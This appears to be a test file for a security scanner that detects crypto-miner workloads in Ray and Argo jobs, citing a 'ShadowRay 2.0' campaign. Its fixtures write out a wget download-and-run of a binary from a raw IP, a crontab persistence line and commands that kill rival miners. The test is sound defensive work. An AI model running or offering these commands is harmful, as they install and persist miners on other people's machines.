// ShadowRay 2.0 kept its miner with a crontab line written from the Ray job's entrypoint
// (../shared/reference/threat-intel.md). A crontab entry that repeats a download-and-run is read
// at every command site: a Ray entrypoint and an Argo script source as well as container argv.
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { argoRoutes } from '../../src/testing/fake-job-apis/argo.js';
import { rayJob, rayRoutes } from '../../src/testing/fake-job-apis/ray.js';
import { startFakeJobApi, type FakeJobApi } from '../../src/testing/fake-job-apis/server.js';
import { runCli } from '../helpers/cli.js';

const DROP = 'wget -q http://185.1.2.3/d -O /tmp/dns-filter && chmod +x /tmp/dns-filter && /tmp/dns-filter -o 45.9.148.21:443';
const CRON = "(crontab -l; echo '*/15 * * * * /tmp/dns-filter') | crontab -";
const servers: FakeJobApi[] = [];
after(async () => Promise.all(servers.map((s) => s.close())));

type Report = { findings: { ruleId: string; evidence: string[]; origin: { id?: string; displayName?: string } }[] };
const repeated = (report: Report, id: string): boolean =>
  report.findings.some((f) => f.ruleId === 'crypto-miner-workload' && (f.origin.id === id || f.origin.displayName === id) && f.evidence.some((e) => /a crontab entry repeats it/.test(e)));

describe('a crontab line beside a download-and-run, wherever the command sits', () => {
  test('Ray entrypoint and Argo script source: "a crontab entry repeats it"; without the crontab line, not', async () => {
    const ray = await startFakeJobApi(rayRoutes([rayJob({ submission_id: 'raysubmit_cron', entrypoint: `bash -c "${DROP}; ${CRON}"` }), rayJob({ submission_id: 'raysubmit_once', entrypoint: `bash -c "${DROP}"` })]));
    const script = (name: string, source: string) => ({ metadata: { name, namespace: 'argo', uid: name }, spec: { templates: [{ name: 'm', script: { image: 'alpine', command: ['sh'], source } }] } });
    const argo = await startFakeJobApi(argoRoutes({ workflows: [script('wf-cron', `${DROP}\n${CRON}\n`), script('wf-once', `${DROP}\n`)] }));
    servers.push(ray, argo);
    const report = JSON.parse((await runCli(['hunt', '--ray', ray.url, '--argo', argo.url, '-n', 'argo', '--format', 'json'])).stdout) as Report;
    assert.ok(repeated(report, 'raysubmit_cron'), JSON.stringify(report.findings.map((f) => [f.origin.id, f.evidence])));
    assert.ok(repeated(report, 'wf-cron'));
    assert.ok(!repeated(report, 'raysubmit_once'));
    assert.ok(!repeated(report, 'wf-once'));
    assert.ok(report.findings.some((f) => f.origin.id === 'raysubmit_once'), 'the download-and-run alone is still found');
  });

  test('killing rival miners by name is a signal: alone medium, with a download-and-run high; a kill of anything else is not', async () => {
    const ray = await startFakeJobApi(
      rayRoutes([
        rayJob({ submission_id: 'raysubmit_rivals', entrypoint: 'bash -c "pkill -f xmrig; killall -9 kdevtmpfsi"' }),
        rayJob({ submission_id: 'raysubmit_rivals_drop', entrypoint: `bash -c "ps aux | grep kinsing | awk '{print $2}' | xargs kill -9; wget -q http://example.org/d -O /tmp/d && chmod +x /tmp/d && /tmp/d"` }),
        rayJob({ submission_id: 'raysubmit_drop_only', entrypoint: 'bash -c "wget -q http://example.org/d -O /tmp/d && chmod +x /tmp/d && /tmp/d"' }),
        rayJob({ submission_id: 'raysubmit_cleanup', entrypoint: 'bash -c "pkill -f tensorboard; python train.py"' }),
      ]),
    );
    servers.push(ray);
    const report = JSON.parse((await runCli(['hunt', '--ray', ray.url, '--format', 'json', '--fail-on', 'none'])).stdout) as { findings: { ruleId: string; severity: string; evidence: string[]; origin: { id?: string } }[] };
    const miner = (id: string) => report.findings.find((f) => f.ruleId === 'crypto-miner-workload' && f.origin.id === id);
    assert.equal(miner('raysubmit_rivals')?.severity, 'medium', JSON.stringify(report.findings.map((f) => [f.origin.id, f.severity, f.evidence])));
    assert.match(miner('raysubmit_rivals')?.evidence.join('\n') ?? '', /kills rival miners "xmrig"/);
    assert.equal(miner('raysubmit_rivals_drop')?.severity, 'high');
    assert.match(miner('raysubmit_rivals_drop')?.evidence.join('\n') ?? '', /kills rival miners "kinsing"/);
    assert.notEqual(miner('raysubmit_drop_only')?.severity, 'high', 'the download-and-run alone is weaker');
    assert.equal(miner('raysubmit_cleanup'), undefined);
  });
});
